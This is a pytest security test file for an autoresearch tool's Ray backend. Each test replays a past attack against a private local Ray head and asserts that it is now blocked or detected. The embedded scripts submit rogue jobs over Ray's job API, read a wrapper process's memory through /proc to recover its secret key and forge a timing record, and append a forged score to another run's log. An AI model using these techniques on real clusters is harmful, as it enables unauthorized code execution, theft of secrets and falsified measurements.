"""What a run on a Ray worker can reach, and what the server trusts of its job: real runs against the private
local Ray head (tests/helpers/ray_head.py). Each test is an attack that once worked.

- A run read the cluster's address in the snapshot's configuration and submitted its own job over the job
  API; Ray ran it without our wrapper, as root, and it changed an untracked file of the user.
- A job under the session's name that the server did not submit was left running and unreported.
- A sibling job running as root read the wrapper's secret from /proc/<wrapper>/mem and appended a forged
  `end` record: a slow candidate was measured at 0.011 s.
- Another job appended `score: -1000` to a run's job log after its honest line, and that value was taken.
"""

from __future__ import annotations

import threading
import time
import zipfile
from pathlib import Path

import pytest
from ray.job_submission import JobSubmissionClient

from mcp_autoresearch.backends.ray_backend import RayBackend
from mcp_autoresearch.backends.ray_trust import ray_contradiction
from mcp_autoresearch.lifecycle.experiment import Experiment

from .helpers.ray_head import ISOLATION, _config, _experiment, _project

pytestmark = pytest.mark.filterwarnings("ignore:ssl=None is deprecated:DeprecationWarning")

# The run's attempt on the cluster: every address it can find (the project's configuration, Ray's variables,
# and the address it guesses, given as its argument), then a job of its own that appends to the user's file.
REACH = """
import json, os, re, sys, time, urllib.request
victim, guess = sys.argv[1], sys.argv[2]
found = re.findall(r'ray_address\\s*=\\s*"([^"]+)"', open("autoresearch.toml").read())
print("config addresses:", found or "none")
print("ray variables:", sorted(k for k in os.environ if k.startswith("RAY_")) or "none")
seen = [p for p in os.listdir("/proc") if p.isdigit()]
print("processes seen:", len(seen))
for address in found + [guess]:
    body = json.dumps({"entrypoint": f"echo PWNED >> {victim}", "submission_id": "reach-" + str(os.getpid())})
    request = urllib.request.Request(address + "/api/jobs/", body.encode(), {"Content-Type": "application/json"})
    try:
        job = json.load(urllib.request.urlopen(request, timeout=10))["submission_id"]
    except OSError as exc:
        print("refused:", address, exc)
        continue
    print("SUBMITTED", job)
    for _ in range(600):  # until the job has run: the damage is done before this run ends
        state = json.load(urllib.request.urlopen(f"{address}/api/jobs/{job}", timeout=10))["status"]
        if state in ("SUCCEEDED", "FAILED", "STOPPED"):
            break
        time.sleep(0.1)
print("score: 1")
"""


def test_a_run_cannot_reach_the_clusters_job_api(tmp_path: Path, ray_address: str) -> None:
    """The address is in the project's configuration and the run guesses it too: the package has no address,
    the run has no Ray variables, sees no process but its own, and has no network to the job API."""
    root = _project(tmp_path)
    victim = tmp_path / "user_notes.txt"
    victim.write_text("mine\n")
    (root / "autoresearch.toml").write_text(
        f'run_command = "python3 reach.py"\nray_address = "{ray_address}"\n'
    )
    (root / "reach.py").write_text(REACH)
    client = JobSubmissionClient(ray_address)
    before = {job.submission_id for job in client.list_jobs()}
    result = _experiment(root, ray_address, f"python3 reach.py {victim} {ray_address}").run()
    log = Path(result.log_path).read_text()
    assert result.status == "ok", (result.error, log)
    assert victim.read_text() == "mine\n", log
    assert "SUBMITTED" not in log and f"refused: {ray_address}" in log, log
    assert "config addresses: none" in log and "ray variables: none" in log, log
    assert int(log.split("processes seen: ")[1].split()[0]) < 10, log  # its own few, not the node's
    new = {job.submission_id for job in client.list_jobs()} - before
    assert all(name.startswith("autoresearch-") for name in new), new


def test_a_foreign_job_under_the_sessions_name_is_stopped_and_reported(
    tmp_path: Path, ray_address: str
) -> None:
    """A job named after this session that the server never submitted (a run that reached the API on a worker
    without namespaces could start one): stopped, named in the run's result and log, and the run not trusted."""
    root = _project(tmp_path)
    config = _config("echo 'score: 1'", ray_address=ray_address)
    backend = RayBackend.from_config(config)
    backend.job_prefix = "t9-abc-"
    backend.check()  # the server's start: what runs under its name now is its predecessor's
    client = JobSubmissionClient(ray_address)
    foreign = client.submit_job(entrypoint="sleep 120", submission_id="autoresearch-t9-abc-r1-evil")
    result = Experiment(config, root, "r1", tmp_path / "logs", isolation=ISOLATION, backend=backend).run()
    assert result.status == "crash" and foreign in (result.error or ""), result.error
    assert "did not submit" in (result.error or "") and foreign in Path(result.log_path).read_text()
    while not client.get_job_status(foreign).is_terminal():  # stopped by the server: it ends
        time.sleep(0.2)
    assert str(client.get_job_status(foreign)).endswith("STOPPED")


# A sibling job, as root and unwrapped: it finds the wrapper of the other run, reads its memory for the secret
# (the old revealed nonce, or the key of the record chain), appends an `end` record claiming 0.011 s, and with
# "kill" kills the wrapper so that it writes nothing after the forgery.
SIBLING = r"""
import glob, hashlib, hmac, json, os, re, signal, sys, time
print("SIBLING READY", flush=True)
own = os.getcwd()[: os.getcwd().index("/runtime_resources/")]  # this node's session: not another test suite's
def wrapper():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            cmd = open(f"/proc/{pid}/cmdline", "rb").read()
            mine = os.readlink(f"/proc/{pid}/cwd").startswith(own)
            if b"ray_wrapper.py" in cmd and b"confine.py" not in cmd and mine:
                return int(pid)
        except OSError:
            pass
while (pid := wrapper()) is None:
    time.sleep(0.05)
cwd = os.readlink(f"/proc/{pid}/cwd")
job = json.load(open(os.path.join(cwd, ".autoresearch-ray.json")))["job"]
session = cwd[: cwd.index("/runtime_resources/")]
path = f"{session}/logs/job-driver-{job}.log"
while "LONG RUN STARTED" not in (open(path).read() if os.path.exists(path) else ""):
    time.sleep(0.05)
lines = open(path).read().splitlines()
first = next(i for i, line in enumerate(lines) if line.startswith("#autoresearch-ray begin "))
records = lines[first + 1 :]
memory = b""
with open(f"/proc/{pid}/mem", "rb") as mem:
    for line in open(f"/proc/{pid}/maps"):
        span, perms = line.split()[:2]
        if perms.startswith("rw"):
            start, end = (int(x, 16) for x in span.split("-"))
            try:
                mem.seek(start)
                memory += mem.read(end - start)
            except OSError:
                pass
report = json.dumps({"exit": 0, "duration_s": 0.011, "timed_out": False, "peak_rss": 1}, separators=(",", ":"))
commitment = lines[first].split()[-1]
forged = None
for nonce in set(re.findall(rb"[0-9a-f]{32}", memory)):  # the commit-reveal nonce
    if hashlib.sha256(nonce).hexdigest() == commitment:
        forged = f"#autoresearch-ray end {nonce.decode()} {report}"
record0 = records[0][32:].encode()
# A 32-byte bytes object: its length (32) sits 16 bytes before its data.
offsets = [m.start() + 16 for m in re.finditer(re.escape((32).to_bytes(8, "little")), memory)]
for offset in offsets if forged is None else ():  # the chain's key
    key = memory[offset : offset + 32]
    if hmac.new(key, (0).to_bytes(8, "big") + record0, "sha256").hexdigest()[:32] == records[0][:32]:
        body = f"#autoresearch-ray end {report}"
        tag = hmac.new(key, len(records).to_bytes(8, "big") + body.encode(), "sha256").hexdigest()[:32]
        forged = tag + body
        break
print("FORGED" if forged else "NO SECRET FOUND", flush=True)
with open(path, "a") as log:
    log.write((forged or "0" * 32 + f"#autoresearch-ray end {report}") + "\n")
if sys.argv[1] == "kill":
    os.kill(pid, signal.SIGKILL)
"""


@pytest.mark.parametrize(
    ("mode", "caught_by"),
    [
        ("kill", "contradicts the wrapper's report"),  # Ray saw the wrapper killed, not an exit 0
        ("keep", "did not write"),  # the wrapper's own records follow the forged end: the chain forks
    ],
)
def test_a_root_sibling_that_reads_the_wrappers_memory_cannot_forge_the_report(
    tmp_path: Path, ray_address: str, mode: str, caught_by: str
) -> None:
    root = _project(tmp_path)
    sibling_dir = tmp_path / "sibling"
    sibling_dir.mkdir()
    (sibling_dir / "sibling.py").write_text(SIBLING)
    client = JobSubmissionClient(ray_address)
    sibling = client.submit_job(
        entrypoint=f"python3 sibling.py {mode}", runtime_env={"working_dir": str(sibling_dir)}
    )
    while "SIBLING READY" not in client.get_job_logs(sibling):  # it watches before the run starts
        assert not client.get_job_status(sibling).is_terminal(), client.get_job_logs(sibling)
        time.sleep(0.2)
    command = "echo 'score: 1'; echo 'LONG RUN STARTED'; sleep 8; echo 'done'"
    result = _experiment(root, ray_address, command, timeout=120).run()
    while not client.get_job_status(sibling).is_terminal():
        time.sleep(0.2)
    said = client.get_job_logs(sibling)
    assert "FORGED" in said, said  # it held the key: the chain alone would not have caught it
    assert result.status == "crash" and result.duration_s != 0.011, (result, said)
    assert caught_by in (result.error or ""), result.error


def test_a_report_that_ray_contradicts_is_rejected(tmp_path: Path, ray_address: str) -> None:
    """Ray's own record of a real job: a report of 0.011 s for a job Ray saw run over 12 s, or of a failure for
    a job Ray saw succeed, is a contradiction; the honest report is not."""
    root = _project(tmp_path)
    client = JobSubmissionClient(ray_address)
    before = {job.submission_id for job in client.list_jobs()}
    result = _experiment(root, ray_address, "sleep 12; echo 'score: 1'").run()
    assert result.status == "ok", result.error
    [job] = [j for j in client.list_jobs() if j.submission_id not in before]
    info = client.get_job_info(job.submission_id)
    honest = {"exit": 0, "duration_s": result.duration_s}
    assert ray_contradiction(honest, info, setup_s=0.0) is None
    assert "Ray says the job ran" in (ray_contradiction({"exit": 0, "duration_s": 0.011}, info, 0.0) or "")
    assert "exit code 1" in (ray_contradiction({"exit": 1, "duration_s": result.duration_s}, info, 0.0) or "")


# The other slot's run, unconfined (isolation "off"): it finds the honest run's job log on the node and appends
# a line shaped like the run's own output after the honest one.
APPEND = r"""
import glob, os, sys, time
session = os.getcwd()[: os.getcwd().index("/runtime_resources/")]
while True:
    for path in glob.glob(f"{session}/logs/job-driver-*.log"):
        text = open(path).read()
        if sys.argv[1] in text and "score: 5" in text:
            head = [l for l in text.splitlines() if "score: 5" in l][0]
            tag = head[: head.index("|")]
            with open(path, "a") as log:
                log.write(tag + "|score: -1000\n")
            print("APPENDED", flush=True)
            job = path.rsplit("job-driver-", 1)[1][: -len(".log")]
            for spec in glob.glob(f"{session}/runtime_resources/working_dir_files/*/.autoresearch-ray.json"):
                if f'"{job}"' in open(spec).read():
                    open(os.path.join(os.path.dirname(spec), "appended"), "w").close()  # the honest run may end
            raise SystemExit
    time.sleep(0.05)
"""


def test_a_line_appended_to_another_runs_job_log_is_not_taken(tmp_path: Path, ray_address: str) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    honest_root = _project(tmp_path / "a")
    attacker_root = _project(tmp_path / "b")
    (attacker_root / "append.py").write_text(APPEND)
    token = f"honest-{tmp_path.name}"
    command = f"echo {token}; echo 'score: 5'; while [ ! -e appended ]; do sleep 0.1; done"
    honest = _experiment(honest_root, ray_address, command, timeout=120)
    assert honest.backend is not None
    honest.backend.job_prefix = "a-"  # two sessions: neither's job is foreign to the other
    config = _config(f"python3 append.py {token}; echo 'score: 0'", ray_address=ray_address)
    backend = RayBackend.from_config(config)
    backend.job_prefix = "b-"
    attacker = Experiment(config, attacker_root, "r2", tmp_path / "b-logs", isolation=None, backend=backend)
    results = {}
    thread = threading.Thread(target=lambda: results.setdefault("attacker", attacker.run()))
    thread.start()
    results["honest"] = honest.run()
    thread.join()
    assert "APPENDED" in Path(results["attacker"].log_path).read_text()
    result = results["honest"]
    assert result.value != -1000
    assert result.status == "crash" and "did not write" in (result.error or ""), result


def test_the_package_carries_no_cluster_address(tmp_path: Path) -> None:
    from mcp_autoresearch.backends.ray_package import build_package

    root = _project(tmp_path)
    (root / "autoresearch.toml").write_text('metric_name = "score"\n  ray_address = "http://head:8265"\n')
    (root / "pyproject.toml").write_text('[tool.autoresearch]\nray_address="ray://head:10001"\n')
    build_package(root, tmp_path / "p.zip", [".git"], {"job": "j"}, 1 << 20)
    with zipfile.ZipFile(tmp_path / "p.zip") as package:
        text = package.read("autoresearch.toml").decode() + package.read("pyproject.toml").decode()
    assert "head" not in text and 'metric_name = "score"' in text and "[tool.autoresearch]" in text
